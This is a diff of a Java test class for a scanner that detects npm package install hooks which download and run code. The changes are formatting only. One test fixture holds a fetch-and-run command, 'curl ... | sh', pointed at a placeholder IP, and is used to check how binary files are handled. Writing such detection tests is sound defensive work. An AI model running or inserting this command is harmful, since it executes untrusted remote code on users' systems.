@@ -243,7 +243,14 @@ class HookFileRuleTest {
                 .endsWith("hook-runs-download");
         String far = "p/far.js";
         assertThat(found(scan(
-                        "p/package.json", hook(command), file, program, other, "require('/p/far'); x('./far');", far, bad)))
+                        "p/package.json",
+                        hook(command),
+                        file,
+                        program,
+                        other,
+                        "require('/p/far'); x('./far');",
+                        far,
+                        bad)))
                 .isEmpty();
     }
 
@@ -259,13 +266,14 @@ class HookFileRuleTest {
         assertThat(report.gaps())
                 .singleElement()
                 .satisfies(gap -> assertThat(gap.reason()).contains("no more than 4194304 characters"));
-        assertThat(scan("p/package.json", hook("node x.js"), "p/x.js", filler).gaps()).isEmpty();
+        assertThat(scan("p/package.json", hook("node x.js"), "p/x.js", filler).gaps())
+                .isEmpty();
     }
 
     @Test
     void aProgramOfAMachineIsNone() {
-        RecordedReport report = scan(
-                "p/package.json", hook("bin/x"), "p/bin/x", "\1\2\0\0\ncurl -s http://192.0.2.1/x | sh\n");
+        RecordedReport report =
+                scan("p/package.json", hook("bin/x"), "p/bin/x", "\1\2\0\0\ncurl -s http://192.0.2.1/x | sh\n");
         assertThat(found(report)).isEmpty();
         assertThat(report.gaps()).isEmpty();
     }
